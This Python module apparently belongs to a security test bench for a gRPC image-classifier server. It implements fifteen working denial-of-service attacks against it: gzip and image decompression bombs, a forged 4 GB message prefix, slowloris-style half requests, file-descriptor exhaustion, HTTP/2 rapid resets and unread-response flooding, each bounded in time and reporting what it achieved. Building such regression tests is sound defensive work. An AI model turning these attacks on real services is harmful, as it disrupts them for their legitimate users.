"""Owns the attacks by name, each a function that ends by itself and returns what the attacker got, in words."""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass

from bench.attacks import victims
from bench.attacks.messages import gzip_bomb, image_bomb, message
from bench.attacks.raw_http2 import Place, RawConnection
from covey_proto.v1.classifier_pb2 import ClassifyRequest, EncodedImages, Pixels

CLASSIFY = "/covey.v1.Classifier/Classify"
HEALTH = "/grpc.health.v1.Health/Check"
_MIB = 1 << 20


@dataclass(frozen=True)
class Target:
    """What is attacked. `seconds` bounds each attack."""

    grpc: Place
    metrics: Place
    seconds: float
    headers: tuple[tuple[str, str], ...] = ()  # of every call; a token, where the attacker has one


@dataclass(frozen=True)
class Attack:
    """`entry` is the issue's number of it; `model` the one that innocent callers use meanwhile;
    `others` are models that the attacker needs beside it."""

    entry: str
    run: Callable[[Target], str]
    model: str = "small"
    others: tuple[str, ...] = ()
    tokens: bool = False  # whether the server wants tokens, and the attacker has none
    soft_files: int = 0


def image_bombs(target: Target) -> str:
    """Four lossless WebPs of a few bytes and four RGBA PNGs, 50 million pixels each, at once."""
    files = [image_bomb("WEBP", lossless=True), image_bomb("PNG")]
    calls = [message(ClassifyRequest(encoded=EncodedImages(images=[file]))) for file in files * 4]
    return _together(target, calls)


def gzip_classify(target: Target) -> str:
    """One message of 1 MB that unfolds to 1 GB."""
    return _one_body(target, CLASSIFY, gzip_bomb(), encoding="gzip")


def gzip_health(target: Target) -> str:
    """The same to grpc.health.v1, which asks for no token."""
    return _one_body(target, HEALTH, gzip_bomb(), encoding="gzip")


def long_prefix(target: Target) -> str:
    """A message said to have 4 GB, of which 487 MB are sent."""
    connection = RawConnection(target.grpc)
    stream = connection.call(CLASSIFY, target.headers)
    sent = connection.body(stream, struct.pack(">BI", 0, 2**32 - 1), end=False)
    chunk = bytes(8 * _MIB)
    give_up = time.monotonic() + target.seconds
    while sent < 487 * _MIB and not connection.closed and not connection.statuses and time.monotonic() < give_up:
        sent += connection.body(stream, chunk, end=False, give_up_s=2.0)
    connection.read(1.0)
    got = _got(connection)
    connection.close()
    return f"{sent / _MIB:,.0f} MB taken, {got}"


def half_sent(target: Target) -> str:
    """64 connections that each send 60 MB of a message, and then wait."""
    chunk = bytes(_MIB)
    taken: Counter[str] = Counter()
    total = 0
    connections: list[RawConnection] = []
    give_up = time.monotonic() + target.seconds
    for _ in range(64):
        if time.monotonic() > give_up:
            break
        try:
            connection = RawConnection(target.grpc)
        except OSError as error:
            taken[f"refused ({error.__class__.__name__})"] += 1
            continue
        connections.append(connection)
        stream = connection.call(CLASSIFY, target.headers)
        sent = connection.body(stream, struct.pack(">BI", 0, 62 * _MIB), end=False)
        while sent < 60 * _MIB and not connection.closed and stream and not connection.statuses:
            more = connection.body(stream, chunk, end=False, give_up_s=0.5)
            if not more:
                break
            sent += more
        total += sent
    time.sleep(3.0)
    for connection in connections:
        connection.read(0.0)
        taken[_got(connection)] += 1
        connection.close()
    return f"{total / _MIB:,.0f} MB taken; {_counted(taken)}"


def unread_answers(target: Target) -> str:
    """400 requests with 100,000 classes each, whose answers are never read."""
    try:
        connection = RawConnection(target.grpc, window_bytes=0)
    except OSError as error:
        return f"refused ({error.__class__.__name__})"
    body = message(ClassifyRequest(model="wide", top_k=victims.WIDE_CLASSES, pixels=Pixels(data=victims.image(2))))
    for _ in range(400):
        connection.body(connection.call(CLASSIFY, target.headers), body)
    connection.wait_for_answers(400, target.seconds)
    got = _got(connection)
    connection.close()
    return got


def silent_connections(target: Target) -> str:
    """1,004 connections that send nothing, to a server that was started with a soft limit of 1,024 files."""
    sockets: list[socket.socket] = []
    refused = 0
    for _ in range(1004):
        try:
            sockets.append(socket.create_connection((target.grpc.host, target.grpc.port), 2.0))
        except OSError:
            refused += 1
    time.sleep(target.seconds)
    newcomer = _newcomer(target)
    closed = sum(_is_closed(each) for each in sockets)
    for each in sockets:
        each.close()
    return (
        f"{len(sockets)} connected, {refused} refused, {closed} closed by the server within {target.seconds:.0f} s; "
        f"a newcomer gets {newcomer}"
    )


def half_scrapes(target: Target) -> str:
    """300 half requests to the metrics port."""
    sockets: list[socket.socket] = []
    refused = 0
    for _ in range(300):
        try:
            connected = socket.create_connection((target.metrics.host, target.metrics.port), 2.0)
            connected.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
            sockets.append(connected)
        except OSError:
            refused += 1
    time.sleep(target.seconds)
    closed = sum(_is_closed(each) for each in sockets)
    for each in sockets:
        each.close()
    return f"{len(sockets)} connected, {refused} refused, {closed} closed by the server within {target.seconds:.0f} s"


def resets(target: Target) -> str:
    """20,000 calls that are reset at once, on as many connections as it takes."""
    body = message(ClassifyRequest(pixels=Pixels(data=victims.image(3))))
    sent = connections = 0
    endings: Counter[str] = Counter()
    give_up = time.monotonic() + target.seconds
    while sent < 20_000 and connections < 500 and time.monotonic() < give_up:
        connections += 1
        try:
            connection = RawConnection(target.grpc)
        except OSError as error:
            endings[f"refused ({error.__class__.__name__})"] += 1
            continue
        while sent < 20_000 and not connection.closed:
            stream = connection.call(CLASSIFY, target.headers)
            connection.body(stream, body, give_up_s=0.2)
            connection.reset(stream)
            sent += 1
        endings[connection.closed or "kept"] += 1
        connection.close()
    return f"{sent:,} calls on {connections} connections; {_counted(endings)}"


def failing_model(target: Target) -> str:
    """One caller, 8 calls in flight, whose images make the model fail; the innocent call the same model."""
    return _repeated(target, "faulty", [victims.image(4, guilty=True)], 8)


def slow_run(target: Target) -> str:
    """A caller whose image takes seconds on a model that is usually quick; the innocent call another model."""
    quick = message(ClassifyRequest(model="slow", pixels=Pixels(data=victims.image(5))))
    slow = message(ClassifyRequest(model="slow", pixels=Pixels(data=victims.image(5, guilty=True))))
    connection = RawConnection(target.grpc)
    give_up = time.monotonic() + target.seconds
    count = 0
    while time.monotonic() < give_up and not connection.closed:
        for body in (quick, quick, quick, slow):
            connection.body(connection.call(CLASSIFY, target.headers), body)
            count += 1
            connection.wait_for_answers(count, 10.0)
    got = _got(connection)
    connection.close()
    return got


def bulk_callers(target: Target) -> str:
    """Two callers that keep two calls of 16 MB in flight each; the innocent call the same model."""
    big = victims.image(6) * (16 * _MIB // (victims.SIDE * victims.SIDE))
    return _repeated(target, "small", [big], 2, callers=2)


ATTACKS = {
    "image bombs": Attack("1", image_bombs),
    "gzip to Classify": Attack("2", gzip_classify),
    "gzip to Classify, no token": Attack("2", gzip_classify, tokens=True),
    "gzip to Health, no token": Attack("2", gzip_health, tokens=True),
    "4 GB prefix, no token": Attack("3", long_prefix, tokens=True),
    "4 GB prefix": Attack("3", long_prefix),
    "64 half messages": Attack("3", half_sent),
    "64 half messages, no token": Attack("3", half_sent, tokens=True),
    "unread answers": Attack("4", unread_answers, others=("wide",)),
    "silent connections": Attack("5", silent_connections, soft_files=1024),
    "300 half scrapes": Attack("5", half_scrapes),
    "resets": Attack("6", resets),
    "failing model": Attack("7", failing_model, model="faulty"),
    "slow run": Attack("8", slow_run, others=("slow",)),
    "bulk callers": Attack("9", bulk_callers),
}


def _newcomer(target: Target) -> str:
    """What a call on a new connection gets, within two seconds."""
    body = message(ClassifyRequest(pixels=Pixels(data=victims.image(8))))
    began = time.monotonic()
    try:
        connection = RawConnection(target.grpc)
    except OSError as error:
        return f"no connection ({error.__class__.__name__})"
    connection.body(connection.call(CLASSIFY, target.headers), body, give_up_s=2.0)
    connection.wait_for_answers(1, 2.0)
    got = _got(connection)
    connection.close()
    return f"{got} after {(time.monotonic() - began) * 1000:.0f} ms"


def _one_body(target: Target, path: str, body: bytes, *, encoding: str) -> str:
    try:
        connection = RawConnection(target.grpc)
    except OSError as error:
        return f"refused ({error.__class__.__name__})"
    stream = connection.call(path, (("grpc-encoding", encoding), *target.headers))
    connection.body(stream, struct.pack(">BI", 1, len(body)) + body)
    connection.wait_for_answers(1, target.seconds)
    got = _got(connection)
    connection.close()
    return got


def _together(target: Target, bodies: Iterable[bytes]) -> str:
    got: Counter[str] = Counter()

    def send(body: bytes) -> None:
        try:
            connection = RawConnection(target.grpc)
        except OSError as error:
            got[f"refused ({error.__class__.__name__})"] += 1
            return
        connection.body(connection.call(CLASSIFY, target.headers), body)
        connection.wait_for_answers(1, target.seconds)
        got[_got(connection)] += 1
        connection.close()

    threads = [threading.Thread(target=send, args=(body,)) for body in bodies]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return _counted(got)


def _repeated(target: Target, model: str, images: list[bytes], in_flight: int, *, callers: int = 1) -> str:
    """Closed loops until the time is over."""
    bodies = [message(ClassifyRequest(model=model, pixels=Pixels(data=each))) for each in images]
    got: Counter[str] = Counter()

    def call() -> None:
        connection = RawConnection(target.grpc)
        give_up = time.monotonic() + target.seconds
        sent = 0
        while time.monotonic() < give_up and not connection.closed:
            while sent - len(connection.statuses) < in_flight:
                connection.body(connection.call(CLASSIFY, target.headers), bodies[sent % len(bodies)])
                sent += 1
            connection.read(0.05)
        got.update(connection.statuses)
        if connection.closed:
            got[connection.closed] += 1
        connection.close()

    threads = [threading.Thread(target=call) for _ in range(callers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return _counted(got)


def _got(connection: RawConnection) -> str:
    connection.read(0.0)
    found = Counter(connection.statuses)
    if connection.closed:
        found[connection.closed] += 1
    return _counted(found)


def _counted(found: Counter[str]) -> str:
    return (
        ", ".join(f"{count:,} x {name}" if count > 1 else name for name, count in found.most_common(4)) or "no answer"
    )


def _is_closed(connected: socket.socket) -> bool:
    connected.setblocking(False)
    try:
        while data := connected.recv(4096):
            del data
    except BlockingIOError:
        return False
    except OSError:
        return True
    return True
